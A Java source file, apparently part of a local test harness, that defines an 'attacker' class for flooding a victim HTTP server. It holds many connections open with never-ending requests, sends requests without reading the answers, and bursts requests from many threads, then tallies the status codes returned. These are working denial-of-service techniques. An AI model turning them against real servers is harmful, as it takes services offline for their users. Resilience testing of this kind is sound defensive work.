package attack;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.StandardSocketOptions;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.function.Supplier;
import java.util.stream.IntStream;

/// The connections and requests of an attacker.
///
/// @param token of a client that signed in before the attack; empty if the flood needs none
record Crowd(Victim victim, String token, Answers answers, List<SocketChannel> open) implements AutoCloseable {

    private static final String ADDRESS = "127.0.0.2";
    private static final int STATUS_BEGINS = "HTTP/1.1 ".length();
    private static final int STATUS_ENDS = STATUS_BEGINS + 3;

    Crowd(Victim victim, String token, Answers answers) {
        this(victim, token, answers, new ArrayList<>());
    }

    Client client() {
        return Client.at(ADDRESS, victim);
    }

    Client proxy() {
        return Client.at(Victim.PROXY, victim);
    }

    /// Opens connections, and sends the beginning of a request that never ends on each.
    void holdEach(int connections, Supplier<byte[]> beginning) {
        IntStream.range(0, connections)
                .forEach(_ -> connected().ifPresent(channel -> {
                    open.add(channel);
                    write(channel, ByteBuffer.wrap(beginning.get()));
                }));
    }

    /// Keeps this number of connections open, and sends the same on all of them without reading an answer.
    void sendWithoutReading(int connections, byte[] requests, long end) {
        while (System.nanoTime() < end) {
            for (int i = 0; i < connections; i++) {
                if (open.size() <= i) {
                    connected().ifPresent(open::add);
                } else if (!write(open.get(i), ByteBuffer.wrap(requests))) {
                    finish(open.remove(i));
                }
            }
            Pause.milliseconds(1);
        }
    }

    /// Sends requests one after the other, from several threads.
    void repeat(int threads, long end, Supplier<Integer> request) {
        try (ExecutorService executor = Executors.newVirtualThreadPerTaskExecutor()) {
            IntStream.range(0, threads)
                    .forEach(_ -> executor.execute(() -> {
                        while (System.nanoTime() < end) {
                            answers.add(request.get());
                        }
                    }));
        }
    }

    /// Sends requests at once, each once.
    void together(int requests, Supplier<Integer> request) {
        try (ExecutorService executor = Executors.newVirtualThreadPerTaskExecutor()) {
            IntStream.range(0, requests).forEach(_ -> executor.execute(() -> answers.add(request.get())));
        }
    }

    private Optional<SocketChannel> connected() {
        try {
            SocketChannel channel = SocketChannel.open();
            channel.setOption(StandardSocketOptions.SO_RCVBUF, 4_096);
            channel.bind(new InetSocketAddress(ADDRESS, 0));
            channel.connect(victim.address());
            channel.configureBlocking(false);
            return Optional.of(channel);
        } catch (IOException _) {
            answers.add(0);
            return Optional.empty();
        }
    }

    /// Writes as much as the connection accepts at once; false if the server has closed it.
    private static boolean write(SocketChannel channel, ByteBuffer bytes) {
        try {
            channel.write(bytes);
            return true;
        } catch (IOException _) {
            return false;
        }
    }

    /// Counts the first answer that has arrived.
    private void finish(SocketChannel channel) {
        ByteBuffer bytes = ByteBuffer.allocate(STATUS_ENDS);
        try (channel) {
            channel.read(bytes);
        } catch (IOException _) {
            bytes.clear();
        }
        answers.add(
                bytes.hasRemaining()
                        ? 0
                        : Integer.parseInt(new String(
                                bytes.array(), STATUS_BEGINS, STATUS_ENDS - STATUS_BEGINS, StandardCharsets.US_ASCII)));
    }

    @Override
    public void close() {
        open.forEach(this::finish);
    }
}
